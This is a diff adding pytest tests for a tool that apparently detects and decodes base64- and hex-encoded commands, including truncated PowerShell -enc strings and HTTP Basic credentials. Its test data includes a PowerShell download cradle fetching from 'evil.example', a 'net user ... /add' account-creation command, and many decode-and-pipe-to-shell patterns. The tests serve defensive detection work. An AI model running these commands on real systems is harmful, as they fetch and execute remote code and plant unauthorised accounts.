@@ -55,6 +55,126 @@ def test_any_frame_keeps_its_kind_and_index():
     assert decode(pl.DataFrame({"a": []}), "a").height == 0
 
 
+CUT_SCRIPTS = [
+    "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')",
+    "echo '\U0001f600 hidden in a rare letter' | iex",
+]
+
+
+@pytest.mark.parametrize("dots", ["", "...", "\u2026", " \n"])
+@pytest.mark.parametrize("script", CUT_SCRIPTS)
+def test_a_command_cut_anywhere_says_what_is_whole(script, dots):
+    run = b64(script, "utf-16-le")
+    sizes = range(22, len(run.rstrip("=")))
+    cuts = pl.DataFrame({"cmd": [f"powershell -enc {run[:size]}{dots}" for size in sizes]})
+    found = decode(cuts, "cmd")
+    assert found.filter(Depth=1)["SourceIndex"].to_list() == list(range(len(sizes)))
+    for size, said, note in zip(sizes, found["Decoded"], found["Note"], strict=True):
+        assert script.startswith(said)
+        bits = "".join(f"{byte:08b}" for byte in script.encode("utf-16-le"))[: size * 6]
+        at = len(said.encode("utf-16-le")) * 8
+        assert len(bits) - at < 32  # only a rare letter, written as two, may lack as much
+        # Where nothing but zeros is left over, nothing shows that more was there.
+        shown = len(bits) - at >= 8 or "1" in bits[at:]
+        assert note == ("cut off" if shown or dots.strip() else "")
+
+
+def test_a_whole_command_is_not_said_to_be_cut():
+    for script in CUT_SCRIPTS:
+        run = b64(script, "utf-16-le")
+        for text in (f"powershell -enc {run}", f"pwsh -e {run.rstrip('=')} x", f"-enc '{run}'"):
+            found = decode(text)
+            assert (found["Decoded"].to_list(), found["Note"].to_list()) == ([script], [""])
+
+
+def test_text_in_utf_8_may_end_within_a_letter_only_where_the_text_ends():
+    run = b64("net user mallory Passw0rd /add \u2014 now")[:43]
+    for text in (f"x {run}", f"x {run}... y"):
+        found = decode(text)
+        assert found["Decoded"].to_list() == ["net user mallory Passw0rd /add "]
+        assert found["Note"].to_list() == ["cut off"]
+    assert decode(f"x '{run}' y").empty
+
+
+def test_text_of_many_scripts_is_found_wherever_a_quick_look_at_it_ends():
+    for filling in range(8):
+        text = "." * filling + "\u041f\u0440\u0438\u0432\u0435\u0442, \u043c\u0438\u0440! " * 8
+        assert decode(f"x {b64(text)} y")["Decoded"].to_list() == [text]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "echo {} | base64 -d | sh",
+        "echo -n '{}'|base64 --decode|bash",
+        'printf "%s" "{}" | /usr/bin/base64 -D',
+        "echo {} | openssl base64 -d",
+        "echo {} | openssl enc -d -base64",
+        "base64 -d <<< {}",
+        "base64 --decode <<<'{}'",
+        "[Convert]::FromBase64String('{}')",
+        "eval(atob('{}'))",
+        'eval(base64_decode("{}"));',
+        "print decode_base64('{}')",
+        "base64.b64decode(b'{}')",
+        "Base64.decode64('{}')",
+        "SELECT from_base64('{}')",
+        "Buffer.from('{}', 'base64')",
+        "'{}'.decode('base64')",
+        "\u0130 ATOB('{}')",
+    ],
+)
+def test_short_text_is_decoded_where_a_call_says_so(text):
+    for word in ("id", "dir", "whoami"):
+        run = b64(word)
+        found = decode(text.format(run))
+        assert found["Decoded"].to_list() == [word]
+        assert found["Announced"].to_list() == [True]
+        assert text.format(run)[found["start"][0] : found["end"][0]] == run
+
+
+def test_short_text_in_hexadecimal_is_decoded_where_a_shell_does():
+    found = decode("echo 77686f616d69 | xxd -r -p | sh")
+    assert found[["Encoding", "Decoded"]].to_numpy().tolist() == [["hex > utf-8", "whoami"]]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "cat file | base64 -d",
+        "cat /tmp/file | base64 -d > data",
+        "echo $file | base64 -d",
+        "curl -s site/load | base64 -d | sh",
+        "echo done; tool | base64 -d",
+        "echo d2hvYW1p | base64 -w0",
+        "echo data | base64",
+        "Authorization: Basic auth is needed here",
+        "WWW-Authenticate: Basic realm=intranet",
+        "Authorization: Bearer d2hvYW1p",
+        "base64 --help, base64 -d file",
+        "from('data', 'base58')",
+    ],
+)
+def test_words_beside_what_decodes_are_left_alone(text):
+    assert decode(text).empty
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Authorization: Basic {}",
+        '{{"authorization": "Basic {}"}}',
+        "curl -H 'Proxy-Authorization: basic {}' http://a.example",
+        '$h.Add("Authorization", "Basic {}")',
+        '@{{Authorization="Basic {}"}}',
+    ],
+)
+@pytest.mark.parametrize("login", ["a:b", "admin:password", "admin:", "x:%$&/()=?!-_.:,;#+*~"])
+def test_credentials_of_http_are_read_and_hide_no_command(text, login):
+    found = decode(text.format(b64(login)))
+    assert (found["Decoded"].to_list(), found["Announced"].to_list()) == ([login], [False])
+
+
 def test_all_text_columns_are_searched_when_none_is_named():
     frame = pl.DataFrame({"n": [1], "a": [b64(SCRIPT)], "_file": [b64(SCRIPT)]})
     assert decode(frame)["input_column"].to_list() == ["a"]
